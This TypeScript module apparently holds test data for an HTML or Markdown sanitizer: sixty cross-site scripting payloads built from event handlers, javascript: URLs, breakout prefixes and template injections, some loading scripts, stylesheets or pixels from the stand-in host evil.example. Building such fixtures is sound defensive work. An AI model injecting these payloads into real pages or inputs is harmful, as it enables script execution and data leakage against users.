/** Texts that would run, or call `fired`, in a page that took them for more than text. Data alone. */

export const RUNS = [
  "<script>fired()</script>",
  "<script src=//evil.example/x.js></script>",
  "<img src=x onerror=fired()>",
  "<img src=//evil.example/pixel.png>",
  "<svg onload=fired()>",
  "<svg><script>fired()</script></svg>",
  "<svg><animate onbegin=fired() attributeName=x dur=1s>",
  "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
  "<iframe src=javascript:parent.fired()></iframe>",
  "<body onload=fired()>",
  "<details open ontoggle=fired()>",
  "<input autofocus onfocus=fired()>",
  "<video><source onerror=fired()></video>",
  "<object data=javascript:fired()></object>",
  "<math><mtext></table><mglyph><style><img src=x onerror=fired()>",
  "<a href=javascript:fired()>click</a>",
  "[click](javascript:fired())",
  "![x](//evil.example/pixel.png)",
  "<style>@import url(//evil.example/x.css)</style>",
  "<meta http-equiv=refresh content='0;url=javascript:fired()'>",
];
/** Sixty: each as it is, behind what breaks out of an attribute, and behind what ends an element. */
export const HOSTILE = RUNS.flatMap((run) => [
  run,
  `"'>${run}`,
  `</textarea></title></script>-->${run}{{fired()}}\${fired()}`,
]);
